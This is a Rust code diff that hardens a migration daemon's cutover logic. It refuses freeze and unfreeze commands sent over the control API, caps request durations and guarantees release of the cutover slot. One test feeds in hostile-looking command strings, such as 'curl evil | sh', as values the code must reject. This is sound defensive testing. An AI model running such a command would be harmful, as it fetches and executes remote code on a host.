@@ -34,7 +34,7 @@ use crate::milvus::Grant;
 use crate::proto::control as api;
 use crate::verify::{self, VerifyMode, VerifyOptions};
 use crate::wal::physical_ms;
-use freeze::{restore_writes, run_shell, Frozen, FROZEN_KEY, RBAC_SETTLE, WRITE_PRIVILEGES};
+use freeze::{restore_writes, run_command, Frozen, FROZEN_KEY, RBAC_SETTLE, WRITE_PRIVILEGES};
 
 mod freeze;
 
@@ -77,17 +77,23 @@ pub struct CutoverPlan {
 }
 
 impl CutoverPlan {
-    /// Checks a request against the job file's `[cutover]` defaults.
+    /// Checks a request against the job file's `[cutover]` section. A request picks a freeze
+    /// mode; the commands come from the job file only (command text in a request is refused,
+    /// so whoever can call the control API cannot run commands on the daemon's host).
     pub fn from_request(req: &api::CutoverRequest, cfg: &JobConfig) -> Result<Self, CutoverError> {
         let bad = |m: String| CutoverError::Rejected(m);
+        if !req.freeze_command.is_empty() || !req.unfreeze_command.is_empty() {
+            return Err(bad(
+                "a cutover request cannot carry freeze or unfreeze commands: they come from the daemon's job file ([cutover] freeze_command, unfreeze_command)".into(),
+            ));
+        }
         let freeze = match req.freeze.as_str() {
             "" | "none" => Freeze::None,
             "command" => {
-                let freeze = non_empty(&req.freeze_command)
-                    .or(cfg.cutover.freeze_command.clone())
-                    .ok_or_else(|| bad("--freeze command needs --freeze-command (or [cutover] freeze_command)".into()))?;
-                let unfreeze = non_empty(&req.unfreeze_command).or(cfg.cutover.unfreeze_command.clone());
-                Freeze::Command { freeze, unfreeze }
+                let freeze = cfg.cutover.freeze_command.clone().ok_or_else(|| {
+                    bad("--freeze command needs [cutover] freeze_command in the daemon's job file".into())
+                })?;
+                Freeze::Command { freeze, unfreeze: cfg.cutover.unfreeze_command.clone() }
             }
             "rbac" => {
                 if cfg.cutover.rbac_roles.is_empty() {
@@ -110,6 +116,20 @@ impl CutoverPlan {
                     .into(),
             ),
         };
+        if let Some(at) = at {
+            if at > SystemTime::now() + MAX_SCHEDULE_AHEAD {
+                return Err(bad(format!("--at {:?}: more than {} days ahead", req.at, MAX_SCHEDULE_AHEAD.as_secs() / 86_400)));
+            }
+        }
+        if req.max_lag_ms > MAX_LAG_BOUND.as_millis() as u64 {
+            return Err(bad(format!("--max-lag-ms {}: at most {} (one hour)", req.max_lag_ms, MAX_LAG_BOUND.as_millis())));
+        }
+        if req.timeout_s > MAX_TIMEOUT.as_secs() {
+            return Err(bad(format!("--timeout {}s: at most {}s (one day)", req.timeout_s, MAX_TIMEOUT.as_secs())));
+        }
+        if req.postpone_flag.len() > 4096 {
+            return Err(bad("--postpone-flag: path longer than 4096 bytes".into()));
+        }
         Ok(CutoverPlan {
             max_lag: Duration::from_millis(if req.max_lag_ms == 0 { 1000 } else { req.max_lag_ms }),
             timeout: Duration::from_secs(if req.timeout_s == 0 { 600 } else { req.timeout_s }),
@@ -122,6 +142,12 @@ impl CutoverPlan {
         })
     }
 }
+
+/// Bounds of a cutover request's durations, checked where they enter: deadlines computed
+/// from them can then never overflow.
+const MAX_LAG_BOUND: Duration = Duration::from_secs(3600);
+const MAX_TIMEOUT: Duration = Duration::from_secs(86_400);
+const MAX_SCHEDULE_AHEAD: Duration = Duration::from_secs(366 * 86_400);
 
 fn non_empty(s: &str) -> Option<String> {
     (!s.trim().is_empty()).then(|| s.to_string())
@@ -167,6 +193,9 @@ pub fn start(job: JobHandle, req: api::CutoverRequest) -> Result<mpsc::Receiver<
         .ok_or_else(|| CutoverError::Rejected("a cutover is already pending or running (`ferry cutover --abort` stops it)".into()))?;
     let (tx, rx) = mpsc::channel(64);
     tokio::spawn(async move {
+        // Releases the cutover slot however this task ends (a panic included), so a failed
+        // cutover can never leave the daemon refusing every later one.
+        let _slot = SlotGuard(job.clone());
         let mut run = Run::new(job.clone(), live, tx, abort);
         let report = run.execute(&plan).await;
         if !plan.dry_run {
@@ -177,9 +206,17 @@ pub fn start(job: JobHandle, req: api::CutoverRequest) -> Result<mpsc::Receiver<
         // The report itself waits for room: the client must get it.
         let done = Run::event("done", &report.outcome, report.reason.as_deref().unwrap_or(""), 0.0, Some(&report));
         let _ = run.tx.send(done).await;
-        job.end_cutover();
     });
     Ok(rx)
+}
+
+/// Ends the job's cutover registration when dropped.
+struct SlotGuard(JobHandle);
+
+impl Drop for SlotGuard {
+    fn drop(&mut self) {
+        self.0.end_cutover();
+    }
 }
 
 /// Aborts a pending or running cutover.
@@ -220,7 +257,7 @@ pub async fn recover(handle: &JobHandle, cfg: &JobConfig) {
     if frozen.is_some() {
         match crate::migrate::connect(cfg).await {
             Ok((source, _)) => {
-                if let Some(Ok(what) | Err(what)) = restore_writes(handle.store(), &source, 3).await {
+                if let Some(Ok(what) | Err(what)) = restore_writes(handle.store(), &source, &cfg.cutover, 3).await {
                     msg += &format!("; {what}");
                 }
             }
@@ -305,7 +342,7 @@ impl Run {
                 // Whatever this cutover froze (recorded before freezing) is undone; a dry run
                 // changes nothing, not even a freeze an earlier cutover left.
                 if !plan.dry_run {
-                    if let Some(Ok(what) | Err(what)) = restore_writes(self.job.store(), &self.live.context.source, 3).await {
+                    if let Some(Ok(what) | Err(what)) = restore_writes(self.job.store(), &self.live.context.source, &self.live.context.cfg.cutover, 3).await {
                         msg += &format!("; {what}");
                     }
                 }
@@ -380,7 +417,7 @@ impl Run {
             if plan.dry_run {
                 return Err(Stop("an earlier cutover left source writes frozen and could not restore them (see `ferry errors`)".into()));
             }
-            match restore_writes(self.job.store(), &self.live.context.source, 1).await {
+            match restore_writes(self.job.store(), &self.live.context.source, &self.live.context.cfg.cutover, 1).await {
                 Some(Err(what)) => return Err(Stop(format!("an earlier cutover left source writes frozen: {what}"))),
                 Some(Ok(what)) => self.job.record_error("", "cutover", &format!("an earlier cutover's freeze was undone: {what}")),
                 None => {}
@@ -447,8 +484,8 @@ impl Run {
             Freeze::Command { freeze, unfreeze } => {
                 let f = Frozen { freeze: "command".into(), unfreeze_command: unfreeze.clone(), revoked: vec![] };
                 self.job.store().put(FROZEN_KEY, &f).map_err(|e| Stop(e.to_string()))?;
-                let out = run_shell(freeze, "freeze").await.map_err(Stop)?;
-                self.step_done("freeze", "ok", format!("freeze command succeeded {out}").trim().to_string(), t);
+                run_command(freeze, "freeze", &self.live.context.cfg.cutover).await.map_err(Stop)?;
+                self.step_done("freeze", "ok", "freeze command succeeded".into(), t);
             }
             Freeze::Rbac { roles } => {
                 let revoke = self.write_grants(roles).await?;
@@ -584,7 +621,7 @@ mod tests {
 
         let req = |f: &str| api::CutoverRequest { freeze: f.into(), ..Default::default() };
         let e = CutoverPlan::from_request(&req("command"), &cfg("")).unwrap_err().to_string();
-        assert!(e.contains("--freeze-command"), "{e}");
+        assert!(e.contains("[cutover] freeze_command"), "{e}");
         let e = CutoverPlan::from_request(&req("rbac"), &cfg("")).unwrap_err().to_string();
         assert!(e.contains("rbac_roles"), "{e}");
         let e = CutoverPlan::from_request(&req("stop-the-world"), &cfg("")).unwrap_err().to_string();
@@ -598,12 +635,44 @@ mod tests {
         .unwrap();
         assert_eq!(p.freeze, Freeze::Command { freeze: "stop".into(), unfreeze: Some("start".into()) });
 
-        let at = api::CutoverRequest { at: "2030-01-02T03:04:05+01:00".into(), ..Default::default() };
+        let at = api::CutoverRequest { at: "2027-01-02T03:04:05+01:00".into(), ..Default::default() };
         let p = CutoverPlan::from_request(&at, &cfg("")).unwrap();
         let secs = p.at.unwrap().duration_since(SystemTime::UNIX_EPOCH).unwrap().as_secs();
-        assert_eq!(secs, 1_893_549_845);
+        assert_eq!(secs, 1_798_855_445);
         let bad = api::CutoverRequest { at: "tomorrow".into(), ..Default::default() };
         assert!(CutoverPlan::from_request(&bad, &cfg("")).unwrap_err().to_string().contains("RFC 3339"));
+    }
+
+    /// Command text in a request is refused whatever the freeze mode, even when the job file
+    /// has commands of its own: commands come only from the job file.
+    #[test]
+    fn command_text_in_a_request_is_refused() {
+        let file = cfg("[cutover]\nfreeze_command = \"stop\"\nunfreeze_command = \"start\"\n");
+        for (freeze, unfreeze) in [("touch /tmp/x", ""), ("", "curl evil | sh"), ("a", "b")] {
+            for mode in ["command", "none", "rbac", ""] {
+                let req = api::CutoverRequest {
+                    freeze: mode.into(),
+                    freeze_command: freeze.into(),
+                    unfreeze_command: unfreeze.into(),
+                    ..Default::default()
+                };
+                let e = CutoverPlan::from_request(&req, &file).unwrap_err().to_string();
+                assert!(e.contains("cannot carry freeze or unfreeze commands"), "{e}");
+            }
+        }
+    }
+
+    /// Durations and times from a request are bounded where they enter, so no deadline
+    /// computed from them can overflow (a huge `--timeout` used to panic the cutover task).
+    #[test]
+    fn request_durations_are_bounded() {
+        let e = |req: api::CutoverRequest| CutoverPlan::from_request(&req, &cfg("")).unwrap_err().to_string();
+        assert!(e(api::CutoverRequest { timeout_s: u64::MAX, ..Default::default() }).contains("--timeout"));
+        assert!(e(api::CutoverRequest { max_lag_ms: u64::MAX, ..Default::default() }).contains("--max-lag-ms"));
+        assert!(e(api::CutoverRequest { at: "9999-12-31T23:59:59Z".into(), ..Default::default() }).contains("days ahead"));
+        let ok = api::CutoverRequest { timeout_s: 86_400, max_lag_ms: 3_600_000, ..Default::default() };
+        let p = CutoverPlan::from_request(&ok, &cfg("")).unwrap();
+        assert!(std::time::Instant::now().checked_add(p.timeout).is_some());
     }
 
     #[test]
